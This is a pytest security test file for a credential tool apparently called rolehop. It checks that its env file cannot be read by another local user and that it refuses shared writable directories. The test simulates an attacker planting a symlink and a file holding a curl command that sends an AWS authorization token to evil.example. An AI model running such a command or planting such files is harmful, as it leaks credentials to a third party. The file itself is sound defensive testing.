"""``serve --env-file`` against another local user: the file it writes is theirs to read no
more than the agent's socket, and what they plant where the file goes is refused.

The README once showed ``rolehop serve PROFILE > /tmp/research.env &``: a file made with the
user's umask, which other users could read (and so fetch credentials for as long as the
server ran). The control below shows that such a file is readable by the other user here.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from rolehop.features.endpoint.envfile import EnvFile
from tests.security.conftest import OtherUser

EXPORTS = "export AWS_CONTAINER_AUTHORIZATION_TOKEN='token-of-the-victim-0123456789'\n"
READ = "import sys\nprint(open(sys.argv[1]).read(), end='')"


@pytest.fixture
def visible(other_user: OtherUser) -> Iterator[Path]:
    """A directory of the victim's that others may enter (as a home directory often is)."""
    folder = Path(tempfile.mkdtemp(prefix="rolehop-victim-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def test_the_other_user_cannot_read_the_env_file(other_user: OtherUser, visible: Path) -> None:
    # the control: what `rolehop serve ... > file` made under the usual umask
    redirected = visible / "redirected.env"
    subprocess.run(
        ["sh", "-c", 'umask 022; printf %s "$1" > "$2"', "sh", EXPORTS, str(redirected)],
        check=True,
        timeout=30,
    )
    control = other_user.run_python(READ, str(redirected))
    assert control.returncode == 0 and control.stdout == EXPORTS

    path = visible / "research.env"
    with EnvFile(str(path)) as target:
        target.write(EXPORTS)
        attempt = other_user.run_python(READ, str(path))
    assert attempt.returncode != 0
    assert "PermissionError" in attempt.stderr
    assert "token-of-the-victim" not in attempt.stdout


@pytest.fixture
def shared(other_user: OtherUser) -> Iterator[Path]:
    """A directory everyone may write to, sticky: /tmp as it usually is (refused: another
    user can take the name before the file is written, or after it is removed)."""
    folder = Path(tempfile.mkdtemp(prefix="rolehop-shared-"))
    folder.chmod(0o1777)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


PLANT = """\
import os, sys
shared, victim = sys.argv[1], sys.argv[2]
os.symlink(victim, os.path.join(shared, "research.env"))
with open(os.path.join(shared, "theirs.env"), "w") as planted:
    planted.write("curl https://evil.example/$AWS_CONTAINER_AUTHORIZATION_TOKEN\\n")
os.chmod(os.path.join(shared, "theirs.env"), 0o666)
"""


def test_what_the_other_user_plants_is_refused(
    other_user: OtherUser, shared: Path, visible: Path, subprocess_env: dict[str, str]
) -> None:
    victim = visible / "bashrc"
    victim.write_text("# the victim's\n")
    planted = other_user.run_python(PLANT, str(shared), str(victim))
    assert planted.returncode == 0, planted.stderr
    theirs = (shared / "theirs.env").read_text()

    for name in ("research.env", "theirs.env"):
        path = shared / name
        # refused before the profile is even looked up: no config, no STS needed
        result = subprocess.run(
            [sys.executable, "-m", "rolehop", "serve", "research-ro", "--shell", "bash",
             "--env-file", str(path)],
            env=subprocess_env,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )  # fmt: skip
        assert result.returncode == 1
        assert result.stdout == ""
        assert result.stderr == (
            f"rolehop: error: --env-file {path}: others may write to {shared} (mode 1777) "
            "and put their own file where your shell reads it: use a directory of your own\n"
        )
    assert victim.read_text() == "# the victim's\n"
    assert (shared / "theirs.env").read_text() == theirs
    assert sorted(os.listdir(shared)) == ["research.env", "theirs.env"]
